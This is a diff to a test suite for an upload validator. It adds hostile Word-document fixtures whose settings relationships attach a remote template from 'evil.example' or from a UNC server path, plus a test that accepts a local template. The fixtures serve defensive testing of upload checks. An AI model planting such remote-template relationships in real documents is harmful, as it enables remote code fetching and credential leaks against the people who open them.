@@ -83,6 +83,20 @@ HOSTILE = {
             "word/document.xml": "<x/>",
         }
     ),
+    "a template from another site": office(
+        "word",
+        **{
+            "word/_rels/settings.xml.rels": '<R><R Id="rId1" Type="http://x/relationships/attachedTemplate" '
+            'Target="http://evil.example/x.dotm" TargetMode="External"/></R>'
+        },
+    ),
+    "a template from a server": office(
+        "word",
+        **{
+            "word/_rels/settings.xml.rels": '<R><R Id="rId1" Type="http://x/relationships/attachedTemplate" '
+            'Target="\\\\server\\x.dotm" TargetMode="External"/></R>'
+        },
+    ),
     "macros named by a relation": office(
         "word",
         **{
@@ -288,3 +302,11 @@ def test_a_damaged_file_is_refused_or_accepted_and_never_a_crash(extension, data
     file = io.BytesIO(bytes(content))
     assert sniff(file) in {*uploads.IMAGES, *uploads.DOCUMENTS, None}
     assert file.tell() == 0
+
+
+def test_a_template_that_lies_on_the_authors_disk_is_no_objection():
+    relation = (
+        '<R><R Type="http://x/relationships/attachedTemplate" '
+        'Target="file:///C:/Users/cm/Normal.dotm" TargetMode="External"/></R>'
+    )
+    validate_attachment(upload(office("word", **{"word/_rels/settings.xml.rels": relation}), "a.docx"))
